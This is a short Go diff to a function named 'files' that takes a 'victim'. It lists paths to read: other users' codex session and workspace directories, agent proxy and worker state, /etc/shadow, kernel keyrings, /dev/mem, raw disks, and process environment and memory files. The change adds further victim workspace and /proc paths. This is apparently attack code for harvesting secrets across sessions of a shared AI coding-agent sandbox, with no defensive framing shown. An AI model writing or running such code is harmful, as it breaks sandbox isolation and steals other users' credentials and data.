@@ -63,7 +63,7 @@ func files(v victim) []attempt {
 	var all []attempt
 	for _, dir := range []string{
 		"/var/lib/codex-session/" + v.ID, "/var/lib/private/codex-session/" + v.ID,
-		fmt.Sprintf("/var/lib/codex-workspace/%d/tree", v.Slot),
+		fmt.Sprintf("/var/lib/codex-workspace/%d/tree", v.Slot), "/var/lib/codex-workspace/home-" + v.ID,
 		"/tmp", "/var/tmp", "/dev/shm", "/tmp/systemd-private-*/tmp", "/var/tmp/systemd-private-*/tmp",
 		fmt.Sprintf("/proc/%d/cwd", v.PID), fmt.Sprintf("/proc/%d/root/workspace", v.PID),
 		fmt.Sprintf("/proc/%d/root/tmp", v.Main), fmt.Sprintf("/proc/%d/root/workspace", v.Main),
@@ -85,7 +85,7 @@ func files(v victim) []attempt {
 		"/var/lib/codex-proxy/*", "/var/lib/codex-worker/*", "/run/codex-proxy/*", "/run/codex-worker/*",
 		"/etc/shadow", "/var/log/journal/*/*", "/run/log/journal/*/*", "/root/*", "/home/*", "/run/user/*",
 		"/dev/mem", "/dev/kmsg", "/dev/nvme*", "/dev/sd*", "/dev/loop*", "/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/1/environ",
-		"/proc/sysvipc/shm", "/sys/kernel/debug/*", "/sys/kernel/tracing/*", "/dev/mqueue/*",
+		"/proc/key-users", "/proc/locks", "/proc/modules", "/proc/cmdline", "/sys/kernel/debug/*", "/sys/kernel/tracing/*", "/dev/mqueue/*",
 	)...)
 	main := strconv.Itoa(os.Getppid())
 	for _, name := range []string{"environ", "mem", "maps", "fd/*", "root/*", "cwd/*", "map_files/*"} {
